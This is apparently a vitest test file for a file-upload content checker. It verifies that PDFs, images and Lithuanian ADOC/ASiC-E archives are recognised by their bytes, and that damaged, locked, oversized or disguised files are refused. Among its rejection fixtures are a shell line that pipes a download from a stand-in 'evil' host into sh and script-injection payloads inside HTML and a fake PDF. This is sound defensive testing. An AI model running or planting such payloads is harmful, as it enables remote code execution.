import PDFDocument from "pdfkit";
import { describe, expect, it } from "vitest";
import { checkContent, type FileLimits } from "../../../functions/uploads/content.ts";

const proof: FileLimits = { types: ["pdf", "jpeg", "png", "adoc"], maxBytes: 4096 };
const bytes = (text: string): Uint8Array => Buffer.from(text, "latin1");

const pdf = bytes("%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\nstartxref\n9\n%%EOF\n");
const png = Buffer.from(
  "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==",
  "base64",
);
const jpeg = bytes(`\u00ff\u00d8\u00ff\u00e0\u0000\u0010JFIF${"\u0000".repeat(40)}\u00ff\u00d9`);

/** A ZIP with one stored entry at its head; enough of one to be told apart by its content. */
function zip(entry: string, content: string, tail = "META-INF/manifest.xml"): Uint8Array {
  const head = Buffer.alloc(30);
  head.write("PK\u0003\u0004", "latin1");
  head.writeUInt32LE(content.length, 18);
  head.writeUInt32LE(content.length, 22);
  head.writeUInt16LE(entry.length, 26);
  return Buffer.concat([head, bytes(`${entry}${content}${tail}PK\u0005\u0006`), Buffer.alloc(18)]);
}
const adoc = zip("mimetype", "application/vnd.lt.archyvai.adoc-2008");
const asice = zip("mimetype", "application/vnd.etsi.asic-e+zip");

/** A PDF as a program writes it that can lock it. */
function pdfWith(lock: PDFKit.PDFDocumentOptions): Promise<Uint8Array> {
  const document = new PDFDocument({ pdfVersion: "1.7", ...lock });
  const chunks: Buffer[] = [];
  document.on("data", (chunk: Buffer) => chunks.push(chunk));
  const done = new Promise<Uint8Array>((resolve) => document.on("end", () => resolve(Buffer.concat(chunks))));
  document.text("Pažyma");
  document.end();
  return done;
}
/** A picture of a camera: a small one, with an end of its own, in the segment before the large one. */
const photo = (picture: string) => {
  const small = "\u00ff\u00d8thumbnail\u00ff\u00d9";
  const segment = `\u00ff\u00e1\u0000${String.fromCharCode(small.length + 2)}${small}`;
  return bytes(`\u00ff\u00d8${segment}\u00ff\u00da\u0000\u0002${picture}`);
};

describe("the content of a file decides what it is", () => {
  it.each([
    ["pdf", pdf],
    ["png", png],
    ["jpeg", jpeg],
    ["adoc", adoc],
    ["asice", asice],
  ])("takes a %s for what it is", async (type, body) => {
    expect(await checkContent(body, proof, false)).toEqual({ outcome: "clean", type });
  });

  it.each([
    ["an empty file", new Uint8Array(0), "empty"],
    ["a file over the field's size", new Uint8Array(4097), "tooLarge"],
    ["a script that is called a PDF", bytes("#!/bin/sh\ncurl evil | sh\n"), "otherType"],
    ["a page of HTML", bytes("<!doctype html><script>alert(1)</script>"), "otherType"],
    ["a Windows program", bytes(`MZ${"\u0000".repeat(100)}`), "otherType"],
    ["an SVG, which can hold scripts", bytes("<svg xmlns='http://www.w3.org/2000/svg'/>"), "otherType"],
    ["a ZIP that does not say that it is an ADOC", zip("letter.txt", "Labas"), "otherType"],
    ["a PDF cut off on the way", pdf.subarray(0, pdf.byteLength - 20), "damaged"],
    ["a script behind the first letters of a PDF", bytes("%PDF-1.4\n<script>alert(1)</script>"), "damaged"],
    ["a photo cut off after the small picture in it", photo("\u0012\u00ff\u0000\u0034"), "damaged"],
    ["a picture cut off on the way", png.subarray(0, png.byteLength - 12), "damaged"],
    ["an ADOC without its manifest", zip("mimetype", "application/vnd.lt.archyvai.adoc-2008", ""), "damaged"],
  ])("refuses %s", async (_what, body, fault) => {
    expect(await checkContent(body, proof, false)).toEqual({ outcome: "refused", fault });
  });

  it.each([
    [
      "a PDF behind what a scanner writes",
      "pdf",
      Buffer.concat([bytes("\u001b%-12345X@PJL\r\n".repeat(40)), pdf]),
    ],
    ["a PDF behind a byte order mark", "pdf", Buffer.concat([bytes("\u00ef\u00bb\u00bf\r\n"), pdf])],
    [
      "a photo with a film behind its end",
      "jpeg",
      Buffer.concat([photo("\u0012\u00ff\u00d9"), Buffer.alloc(3000, 1)]),
    ],
    ["a drawing with notes behind its end", "png", Buffer.concat([png, Buffer.alloc(3000, 32)])],
  ])("takes %s", async (_what, type, body) => {
    expect(await checkContent(body, proof, false)).toEqual({ outcome: "clean", type });
  });

  it("looks for the beginning of a PDF in the first 1024 bytes and no further", async () => {
    const late = Buffer.concat([Buffer.alloc(1024, 32), pdf]);
    expect(await checkContent(late, proof, false)).toEqual({ outcome: "refused", fault: "otherType" });
  });

  it.each(["1.3", "1.4", "1.6", "1.7", "1.7ext3"] as const)(
    "refuses a PDF %s that nobody opens without a password, and takes one that only forbids printing",
    async (pdfVersion) => {
      const limits = { ...proof, maxBytes: 100_000 };
      const locked = await pdfWith({ pdfVersion, userPassword: "slapta", ownerPassword: "kita" });
      expect(await checkContent(locked, limits, false)).toEqual({ outcome: "refused", fault: "locked" });
      const bound = await pdfWith({ pdfVersion, ownerPassword: "kita", permissions: { copying: false } });
      expect(await checkContent(bound, limits, false)).toEqual({ outcome: "clean", type: "pdf" });
    },
  );

  it("takes a file of exactly the field's size and refuses one byte more", async () => {
    const maxBytes = pdf.byteLength;
    expect(await checkContent(pdf, { ...proof, maxBytes }, false)).toMatchObject({ outcome: "clean" });
    expect(await checkContent(pdf, { ...proof, maxBytes: maxBytes - 1 }, false)).toEqual({
      outcome: "refused",
      fault: "tooLarge",
    });
  });

  it("refuses a type that this field does not take", async () => {
    expect(await checkContent(png, { ...proof, types: ["pdf"] }, false)).toEqual({
      outcome: "refused",
      fault: "otherType",
    });
  });

  it("believes the scanner, whatever the file looks like", async () => {
    expect(await checkContent(pdf, proof, true)).toEqual({ outcome: "refused", fault: "malware" });
  });
});
